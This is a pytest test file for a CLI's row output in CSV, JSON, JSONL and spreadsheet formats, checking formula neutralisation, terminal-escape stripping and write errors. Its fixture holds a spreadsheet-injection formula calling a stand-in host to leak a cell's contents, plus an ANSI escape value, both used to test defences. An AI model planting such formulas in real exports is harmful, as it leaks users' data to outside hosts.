"""Rows as tables, JSON, lines, CSV and spreadsheets, on standard output and in files."""

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from es_simhash.cli.row_output import RowFormat, RowOutput, write_sheet
from es_simhash.errors import InputError, MissingExtra
from es_simhash.maintenance.families.find_families import find_families
from tests.cli.conftest import Run
from tests.support.filled_index import filled_index
from tests.support.made_up_texts import make_text, revise

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
ROWS: list[dict[str, Any]] = [
    {"id": FORMULA, "score": -0.5, "document": {"title": "one\ntwo, é"}, "flag": True},
    {"id": "\x1b[31m+b", "score": 1.0, "document": None, "flag": False},
]


def printed(output: RowOutput) -> None:
    output.print(lambda: ROWS, lambda: ROWS, lambda: print("a table"))


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_no_formula_of_a_document(capsys: pytest.CaptureFixture[str]) -> None:
    printed(RowOutput("csv"))
    header, first, second = read_csv(capsys.readouterr().out)
    assert header == ["id", "score", "document.title", "flag"]
    assert first == [f"'{FORMULA}", "-0.5", "one\ntwo, é", "True"]
    assert second[1:] == ["1.0", "", "False"]


def test_lines_are_json_without_what_steers_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    printed(RowOutput("jsonl"))
    out = capsys.readouterr().out
    assert [json.loads(line) for line in out.splitlines()] == ROWS
    assert "\x1b" not in out
    assert "é" in out


def test_a_file_has_what_would_be_printed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for kind in ("table", "json", "jsonl", "csv"):
        path = tmp_path / kind
        printed(RowOutput(kind, path))  # type: ignore[arg-type]
        assert capsys.readouterr().out == ""
        printed(RowOutput(kind))  # type: ignore[arg-type]
        assert path.read_bytes().decode() == capsys.readouterr().out


def test_a_sheet_holds_texts_and_numbers(tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter")
    path = tmp_path / "a.xlsx"
    printed(RowOutput("xlsx", path))
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<v>-0.5</v>" in sheet
    assert "=HYPERLINK" in sheet
    assert sheet.count("<row ") == 3


def test_what_cannot_be_written_is_said_before_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(InputError, match="output is required for xlsx"):
        RowOutput("xlsx")
    with pytest.raises(InputError, match="Cannot write to"):
        RowOutput("csv", tmp_path / "no-folder" / "a.csv")
    monkeypatch.setitem(__import__("sys").modules, "xlsxwriter", None)
    with pytest.raises(MissingExtra, match="need XlsxWriter"):
        RowOutput("xlsx", tmp_path / "a.xlsx")


def test_cells_that_a_sheet_cuts_are_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("xlsxwriter")
    path = tmp_path / "a.xlsx"
    rows = [{"id": "a", "text": "b" * 32_768}, {"id": "c", "text": "d" * 32_767}]
    write_sheet(path, rows)
    texts = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert ("b" * 32_767 in texts, "b" * 32_768 in texts) == (True, False)
    assert capsys.readouterr().err == (
        f"1 cell of {path} is cut to the 32,767 characters that a cell holds. Write csv or jsonl.\n"
    )
    write_sheet(path, rows[1:])
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("kind", ["json", "csv", "xlsx"])
def test_a_full_disk_is_the_error_of_the_file(kind: RowFormat) -> None:
    full = Path("/dev/full")
    if not full.exists():
        pytest.skip("needs /dev/full of Linux")
    if kind == "xlsx":
        pytest.importorskip("xlsxwriter")
    with pytest.raises(InputError, match=r"Cannot write to /dev/full \(No space left on device\)"):
        printed(RowOutput(kind, full))


def test_half_of_a_character_is_the_same_on_standard_output_and_in_a_file(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    rows = [{"id": "a\ud83d", "score": 1.0}]
    for output in (RowOutput("csv"), RowOutput("csv", tmp_path / "a.csv")):
        output.print(lambda: rows, lambda: rows, lambda: None)
    out = capfd.readouterr().out
    assert read_csv(out) == [["id", "score"], ["a?", "1.0"]]
    assert (tmp_path / "a.csv").read_bytes().decode() == out


def test_a_sheet_that_is_too_long_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("xlsxwriter")
    monkeypatch.setattr("es_simhash.cli.row_output._MAX_SHEET_ROWS", 2)
    with pytest.raises(InputError, match="A sheet holds 2 rows, and there are 3"):
        printed(RowOutput("xlsx", tmp_path / "a.xlsx"))


@pytest.fixture(scope="module")
def shelf(cluster_url: str) -> Iterator[str]:
    """An index of two families of two, with dates and owners."""
    texts = [make_text(seed, 120) for seed in (1, 2)]
    texts += [revise(text, 3, 0.05) for text in texts]
    documents = [
        {"id": f"d{n}", "text": text, "date": f"2024-01-0{n + 1}", "owner": f"o{n}"}
        for n, text in enumerate(texts)
    ]
    with filled_index(cluster_url, documents) as (client, name):
        find_families(client, name)
        client.indices.refresh(index=name)
        yield name


COMMANDS: dict[str, tuple[list[str], int, str]] = {
    "related": (["related", "INDEX", "--id", "d0"], 1, "coverage.of_hit"),
    "families list": (["families", "list", "INDEX"], 4, "represents"),
    "families run": (["families", "run", "INDEX", "--all", "--dry-run"], 4, "represents"),
    "families show": (["families", "show", "INDEX", "d0"], 2, "kept_from_first"),
    "families decisions": (["families", "decisions", "INDEX"], 0, ""),
    "copies": (["copies", "INDEX", "--between", "owner.keyword"], 2, "a.id"),
    "blame": (["blame", "INDEX", "d0", "--date-field", "date"], 1, "since.id"),
}


@pytest.mark.variants
@pytest.mark.cluster
@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_that_prints_rows_has_all_formats(
    shelf: str, call: Run, tmp_path: Path, command: str
) -> None:
    pytest.importorskip("xlsxwriter")
    words, least, column = COMMANDS[command]
    words = [shelf if word == "INDEX" else word for word in words]
    done = call(*words, "--format", "csv", "-o", "rows.csv")
    assert (done.status, done.out) == (0, ""), done
    rows = read_csv((tmp_path / "rows.csv").read_bytes().decode())
    assert len(rows) > least if least else rows == []
    assert not column or column in rows[0]
    lines = call(*words, "--format", "jsonl").out.splitlines()
    counted = [json.loads(line) for line in lines]
    assert len([each for each in counted if each.get("type", "copy") == "copy"]) == max(
        0, len(rows) - 1
    )
    assert call(*words, "--format", "xlsx", "-o", "rows.xlsx").status == 0
    assert zipfile.is_zipfile(tmp_path / "rows.xlsx")
    refused = call(*words, "--format", "xlsx")
    assert refused.err == "Error: --output is required for xlsx.\n"
